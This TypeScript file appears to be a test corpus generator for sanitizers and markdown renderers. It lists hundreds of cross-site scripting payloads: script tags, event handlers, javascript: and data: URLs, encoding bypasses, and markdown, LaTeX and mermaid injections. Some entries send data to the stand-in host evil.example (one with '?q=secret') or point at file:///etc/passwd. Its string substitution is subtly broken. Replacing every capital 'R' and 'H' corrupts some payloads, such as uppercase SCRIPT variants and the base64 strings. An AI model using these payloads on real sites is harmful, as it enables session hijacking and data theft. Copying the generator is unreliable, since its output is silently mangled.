// Texts that take over careless pages. Each sets window.pwned, calls alert or asks evil.example.

const RUN = 'window.pwned=1';
const HOME = 'https://evil.example';

const html = [
  '<script>R</script>', '<SCRIPT>R</SCRIPT>', '<script src=H/x.js></script>', '<scr<script>ipt>R</scr</script>ipt>', '<script\n>R</script\n>',
  '<img src=x onerror=R>', '<img src=x onerror="R">', "<img src='x' onerror='R'>", '<img/src=x/onerror=R>', '<img src=H/p.png>', '<img srcset="H/p.png 2x">',
  '<IMG """><SCRIPT>R</SCRIPT>">', '<img src=x:alert(alt) onerror=eval(src) alt=0>', '<image src=x onerror=R>', '<picture><source srcset=H/a><img src=H/b></picture>',
  '<svg onload=R>', '<svg/onload=R>', '<svg><script>R</script></svg>', '<svg><animate onbegin=R attributeName=x dur=1s>', '<svg><a xlink:href="javascript:R"><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=R></svg>#x"></use></svg>', '<svg><foreignObject><iframe src=H></iframe></foreignObject></svg>', '<svg><set attributeName=href to=javascript:R>',
  '<math><mtext><table><mglyph><style><img src=x onerror=R>', '<math href="javascript:R">x</math>', '<math><mi//xlink:href="data:x,<script>R</script>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=R>',
  '<iframe src="javascript:R"></iframe>', '<iframe srcdoc="<script>parent.R</script>"></iframe>', '<iframe src=H></iframe>', '<iframe onload=R></iframe>', '<embed src=H>', '<object data=H></object>', '<object data="javascript:R"></object>',
  '<video src=x onerror=R></video>', '<video><source onerror=R></video>', '<video poster=H/p.png></video>', '<audio src=x onerror=R>', '<audio src=H/a.mp3 autoplay>', '<track src=H>',
  '<body onload=R>', '<body background=H/b.png>', '<input autofocus onfocus=R>', '<input type=image src=H/i.png>', '<select autofocus onfocus=R>', '<textarea autofocus onfocus=R>', '<keygen autofocus onfocus=R>', '<button onclick=R>x</button>', '<form action="javascript:R"><input type=submit></form>', '<button form=x formaction="javascript:R">x</button>', '<isindex action="javascript:R" type=submit>',
  '<a href="javascript:R">x</a>', '<a href="java\nscript:R">x</a>', '<a href="&#106;avascript:R">x</a>', '<a href=" javascript:R">x</a>', '<a href="data:text/html,<script>R</script>">x</a>', '<a onmouseover=R>x</a>', '<a ping=H href=#>x</a>',
  '<div onmouseover=R>x</div>', '<div style="background:url(H/b.png)">x</div>', '<div style="width:expression(R)">x</div>', '<p style=animation-name:x onanimationstart=R>x', '<details open ontoggle=R>', '<marquee onstart=R>', '<dialog open onclose=R>', '<b onpointerenter=R>x</b>', '<xss id=x tabindex=1 onfocus=R></xss>', '<div contenteditable onfocus=R autofocus>x</div>',
  '<style>@import "H/x.css";</style>', '<style>*{background:url(H/x)}</style>', '<style><img src="</style><img src=x onerror=R>">', '<link rel=stylesheet href=H/x.css>', '<link rel=prefetch href=H>', '<link rel=dns-prefetch href=H>', '<link rel=preconnect href=H>', '<meta http-equiv=refresh content="0;url=javascript:R">', '<meta http-equiv=refresh content="0;url=H">', '<base href=H>',
  '<noscript><p title="</noscript><img src=x onerror=R>">', '<title><img src="</title><img src=x onerror=R>">', '<textarea><img src="</textarea><img src=x onerror=R>">', '<xmp><img src="</xmp><img src=x onerror=R>">', '<template><script>R</script></template>', '<noembed><img src="</noembed><img src=x onerror=R>">', '<plaintext><img src=x onerror=R>', '<listing>&lt;img onerror="R" src=x&gt;</listing>',
  '<!--<img src="--><img src=x onerror=R>">', '<![CDATA[<script>R</script>]]>', '<?xml-stylesheet href="javascript:R"?>', '<!DOCTYPE x [<!ENTITY y "<script>R</script>">]>&y;', '<%00script>R</%00script>', '<\u0000script>R</script>', '<script\u2028>R</script>', '＜script＞R＜/script＞', '<scrıpt>R</scrıpt>', '<a\u00a0href=javascript:R>x</a>',
  '<table background="javascript:R">', '<td background=H/t.png>', '<frameset onload=R>', '<applet code=H>', '<bgsound src=H>', '<layer src=H></layer>', '<slot onslotchange=R>', '<portal src=H>', '<fencedframe src=H>', '<script type=module>R</script>', '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["H"]}]}</script>', '<script type=importmap>{}</script><script>R</script>',
  '&lt;script&gt;R&lt;/script&gt;', '&#60;script&#62;R&#60;/script&#62;', '&#x3c;img src=x onerror=R&#x3e;', '%3Cscript%3ER%3C/script%3E', '\\u003cscript\\u003eR\\u003c/script\\u003e', '\\x3cscript\\x3eR\\x3c/script\\x3e',
  '{{constructor.constructor("R")()}}', '${R}', '{@html "<img src=x onerror=R>"}', '<svelte:head><script>R</script></svelte:head>', '{#await import("H")}{/await}', "';R;//", '"-R-"', '`${R}`', 'javascript:R', 'vbscript:R',
];

const schemes = [
  'javascript:R', 'JAVASCRIPT:R', 'JaVaScRiPt:R', ' javascript:R', 'javascript&colon;R', 'javascript&#58;R', '&#106;&#97;&#118;&#97;script:R', 'java%73cript:R', 'java\tscript:R', 'java&Tab;script:R', 'java&NewLine;script:R', '\u0001javascript:R', '\\javascript:R', 'javascript://x%0aR', 'javascript:/*x*/R',
  'data:text/html,<script>R</script>', 'data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=R>', 'data:,R', 'vbscript:R', 'file:///etc/passwd', 'blob:H/x', 'about:blank', 'view-source:H', 'filesystem:H', 'intent:H', 'jar:H!/x', 'ws://evil.example', 'ftp://evil.example', '//evil.example/x', '/\\evil.example', '\\\\evil.example',
];
const frames = [
  '[x](<U>)', '[x](U)', '![x](<U>)', '[x][r]\n\n[r]: <U>', '![x][r]\n\n[r]: <U>', '<U>', '[![x](H/p.png)](<U>)',
];

const markdown = [
  '![x](H/?q=secret)', '![](H/a.png "t")', '![x][r]\n\n[r]: H/b.png', '[x](H "\\" onmouseover=\\"R")', "[x](H 'a\" onclick=R b')", '![\\" onerror=R x=\\"](H/x)', '![a](https://x" onerror="R)', '[a](https://x" onmouseover="R)', '<https://evil.example/" onmouseover="R>', 'H/<img src=x onerror=R>', '[<img src=x onerror=R>](H)', '[`<script>R</script>`](H)', '**<script>R</script>**', '> <script>R</script>', '- <img src=x onerror=R>', '1. <svg onload=R>', '# <script>R</script>', '| <img src=x onerror=R> |\n|--|\n| <script>R</script> |', '```<img src=x onerror=R>\nx\n```', '```"><script>R</script>\nx\n```', "```c' onclick='R\nx\n```", '```html\n<script>R</script>\n```', '~~~ <svg onload=R>\nx\n~~~', '    <script>R</script>', '`<script>R</script>`', '``` \n<img src=x onerror=R>', '$<img src=x onerror=R>$', '$$<script>R</script>$$', '\\(<img src=x onerror=R>\\)', '\\[\\href{javascript:R}{x}\\]', '$\\href{javascript:R}{x}$', '$\\url{javascript:R}$', '$\\includegraphics{H/x.png}$', '$\\htmlData{onclick=R}{x}$', '$\\htmlStyle{background:url(H)}{x}$', '$\\html@mathml{<img src=x onerror=R>}{x}$', '$\\class{x" onclick="R}{x}$', '$\\def\\x{\\x\\x}\\x$', '$x" onmouseover="R" y="$', '$\\text{</annotation><script>R</script>}$', '$\\unicode{<img src=x onerror=R>}$',
  '[^1]\n\n[^1]: <script>R</script>', '- [x] <img src=x onerror=R>', '~~<script>R</script>~~', ':<script>R</script>:', '[a]: javascript:R\n\n[a]', '[a](#"onclick="R)', '<mailto:x@y"onclick=R>', '[x](mailto:a@b?body=<script>R</script>)', '```mermaid\n%%{init:{"securityLevel":"loose"}}%%\ngraph TD;A["<img src=x onerror=R>"]\nclick A "javascript:R"\n```', '```svg\n<svg onload=R>\n```', '```c\n"</code></pre><script>R</script>"\n```', '```c\n</pre><img src=x onerror=R>\n```', '[link](https://a.example/\u202egnp.exe)', '<script>R</script>\n\n<script>\nR\n</script>', '<div>\n\n<script>R</script>\n\n</div>', '<!-- \n\n<img src=x onerror=R> -->', '\u202e<script>R</script>', '<think><script>R</script></think>', '<|im_start|><img src=x onerror=R><|im_end|>', '{"a":"</script><script>R</script>"}', '__proto__[x]=<img src=x onerror=R>', '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)', '[a](data:text/html;base64,PHNjcmlwdD4=)', '[a]( javascript:R )', '[a](\u00a0javascript:R)', '![a](H/a.png){onload=R}', '[a](H){target=_self onclick=R}', '<a href=H>x</a><img src=x onerror=R>',
];

export function corpus(): string[] {
  const links = schemes.flatMap((scheme, i) => [frames[i % frames.length] ?? '', frames[(i + 2) % frames.length] ?? '', frames[(i + 3) % frames.length] ?? '', frames[(i + 5) % frames.length] ?? ''].map((frame) => frame.replaceAll('U', scheme)));
  const all = [...html, ...links, ...markdown].map((text) => text.replaceAll('R', RUN).replaceAll('H', HOME));
  return [...new Set(all)];
}
